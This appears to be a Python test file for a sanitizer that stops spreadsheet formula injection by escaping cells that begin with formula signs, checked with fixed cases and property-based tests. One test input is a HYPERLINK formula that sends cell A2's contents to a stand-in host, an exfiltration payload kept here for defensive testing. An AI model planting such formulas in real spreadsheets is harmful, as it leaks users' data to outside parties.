"""What others wrote stands in a spreadsheet as text, and comes out of it as it was."""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.spreadsheet import harmless

PAGE = Path(__file__).parents[2] / "docs" / "metrics.md"
(BACK,) = re.findall(
    r"^```python\n(begins = .*?)^```", PAGE.read_text(encoding="utf-8"), re.DOTALL | re.MULTILINE
)


def as_it_was(told: str) -> str:
    """As the page says."""
    names: dict[str, Any] = {"re": re, "text": told}
    exec(BACK, names)  # noqa: S102 - our own page
    return str(names["text"])


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("", ""),
        ("Mend the calendar", "Mend the calendar"),
        ("a=b, c-d; e + f @ g", "a=b, c-d; e + f @ g"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "  '=1+1"),
        ("\ufeff=1+1", "\ufeff'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("\rfoo", "'\rfoo"),
        ('fix;=HYPERLINK("http://e.example/?"&A2);', 'fix;\'=HYPERLINK("http://e.example/?"&A2);'),
        ("fix\r\n=1+1", "fix\r\n'=1+1"),
        ("fix\t+1", "fix\t'+1"),
        ("'=1+1", "''=1+1"),
        ("''\t", "'''\t"),
        ("it's -5", "it's -5"),
    ],
)
def test_nothing_that_others_wrote_is_a_formula(written: str, told: str) -> None:
    assert harmless(written) == told
    assert as_it_was(told) == written


@given(st.text(st.sampled_from("=+-@'; \t\r\n\ufeff\uff1da1,")))
def test_no_cell_begins_with_a_formula_however_it_is_parted_and_all_can_be_read_back(text: str) -> None:
    told = harmless(text)
    assert as_it_was(told) == text
    for cell in re.split(r"[;\t\r\n]", told):
        begins = unicodedata.normalize("NFKC", cell.lstrip(" \ufeff"))
        assert not begins.startswith(("=", "+", "-", "@"))
    assert told[:1] not in ("\t", "\r", "\n")


def test_a_wall_of_white_space_is_read_once() -> None:
    for wall in ("\t" * 200_000, "' " * 200_000, "; " * 200_000):
        assert as_it_was(harmless(wall)) == wall


def test_every_sign_that_is_one_of_them_by_another_form_counts() -> None:
    others = [
        letter
        for letter in map(chr, range(0x110000))
        if unicodedata.normalize("NFKC", letter)[:1] in ("=", "+", "-", "@")
    ]
    assert all(harmless(f"{letter}1") == f"'{letter}1" for letter in others)
